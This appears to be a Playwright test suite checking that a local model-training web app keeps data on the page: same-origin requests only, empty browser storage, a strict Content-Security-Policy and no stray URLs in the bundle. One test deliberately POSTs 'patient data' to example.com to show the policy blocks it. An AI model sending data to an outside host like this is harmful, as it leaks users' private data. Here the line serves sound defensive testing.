import { test, expect } from './support';
import { unknownUrls } from './known-urls';

test('a full run makes only same-origin GET requests and stores nothing', async ({ app, page, guard }) => {
  await app.open();
  await app.loadSample('wdbc');
  await app.train();
  await app.uploadFile('cohort.csv', 'age,sex,y\n50,F,yes\n60,M,no\n55,F,no\n70,M,yes\n65,F,yes\n45,M,no\n52,F,no\n68,M,yes\n59,F,no\n61,M,yes\n');
  await app.expectLoaded(10, 3);
  await app.train();
  // the guard fixture fails the test on any off-origin, non-GET or body-carrying request; check it saw traffic at all
  expect(guard.requests.some((r) => r.url.includes('/samples/wdbc.csv'))).toBe(true);
  // the engine worker runs from a blob: URL made by the page (it inherits the page's policy; see worker-policy.spec.ts)
  expect(page.workers().some((w) => w.url().startsWith('blob:'))).toBe(true);
  const storage = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
  }));
  expect(storage).toEqual({ local: 0, session: 0, cookies: '', databases: 0 });
  // the offline cache holds the app's own files only: every cached URL is a file of the build
  const cached = await page.evaluate(async () => {
    const urls: string[] = [];
    for (const name of await caches.keys()) for (const req of await (await caches.open(name)).keys()) urls.push(new URL(req.url).pathname);
    return urls;
  });
  const { existsSync } = await import('node:fs');
  for (const path of cached) expect(existsSync(`dist/${path.replace('/tools/app/', '').replace(/\?.*$/, '')}`), path).toBe(true);
});

test('the Content-Security-Policy forbids connections off the origin', async ({ app, page, guard }) => {
  await app.open();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toContain('unsafe-eval');
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('http://example.com/collect', { method: 'POST', body: 'patient data' });
      return false;
    } catch {
      return true;
    }
  });
  expect(blocked).toBe(true);
  // the browser reported the blocked attempt; that report is the expected outcome here, not a failure
  expect(guard.cspViolations.length).toBeGreaterThan(0);
  guard.cspViolations.length = 0;
  expect(guard.requests.filter((r) => r.url.includes('example.com'))).toEqual([]);
});

test('the built bundle holds no address the app could call', async () => {
  const { readdirSync, readFileSync } = await import('node:fs');
  const files = readdirSync('dist/assets')
    .filter((f) => f.endsWith('.js') || f.endsWith('.css'))
    .concat(readdirSync('dist').filter((f) => /\.(js|html|webmanifest)$/.test(f)).map((f) => `../${f}`));
  const unknown: string[] = [];
  // the allowlist (e2e/known-urls.ts) is shared with the single-file build's test
  for (const f of files) unknown.push(...unknownUrls(readFileSync(`dist/assets/${f}`, 'utf8'), f));
  expect(unknown).toEqual([]);
});
